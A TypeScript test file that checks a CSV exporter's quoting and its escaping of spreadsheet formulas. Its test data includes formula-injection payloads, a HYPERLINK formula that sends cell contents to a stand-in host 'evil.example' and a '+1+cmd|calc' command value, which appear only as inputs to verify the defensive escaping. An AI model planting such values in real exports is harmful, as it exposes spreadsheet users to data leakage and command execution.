import assert from 'node:assert/strict';
import { test } from 'node:test';
import { csvLines } from '../../../../src/destinations/warehouse/export/csv.ts';

const cells: [name: string, value: string | null, expected: string][] = [
  ['text as it is', 'Ada', 'Ada'],
  ['an absent value as nothing', null, ''],
  ['an empty text apart from an absent value', '', '""'],
  ['a comma', 'Lovelace, Ada', '"Lovelace, Ada"'],
  ['quotes', 'the "first"', '"the ""first"""'],
  ['a line feed', 'one\ntwo', '"one\ntwo"'],
  ['a carriage return', 'one\rtwo', '"one\rtwo"'],
  ['space at the ends', ' Ada ', '" Ada "'],
  ['letters of all scripts', 'Žofie 例 🙂', 'Žofie 例 🙂'],
  [
    'a formula as text',
    '=HYPERLINK("http://evil.example?"&A1)',
    `"'=HYPERLINK(""http://evil.example?""&A1)"`,
  ],
  ['a formula that begins with +', '+1+cmd|calc', "'+1+cmd|calc"],
  ['a formula that begins with -', '-1+1', "'-1+1"],
  ['a formula that begins with @', '@SUM(A1)', "'@SUM(A1)"],
  ['a formula behind a tab', '\t=1', "'\t=1"],
  ['a formula in full width', '＝1+1', "'＝1+1"],
  ['a telephone number', '+4915112345678', '+4915112345678'],
  ['a negative number', '-1.5', '-1.5'],
  ['an equals sign inside', 'a=b', 'a=b'],
];
for (const [name, value, expected] of cells) {
  test(`a cell holds ${name}`, () => {
    assert.equal(csvLines([[value]], { isText: [true], isRaw: false }), `${expected}\r\n`);
  });
}

test('what is no text is left alone, and so is all where it is asked for', () => {
  const row = ['-1e5', '=1'];

  assert.equal(csvLines([row], { isText: [false, true], isRaw: false }), "-1e5,'=1\r\n");
  assert.equal(csvLines([row], { isText: [false, true], isRaw: true }), '-1e5,=1\r\n');
});
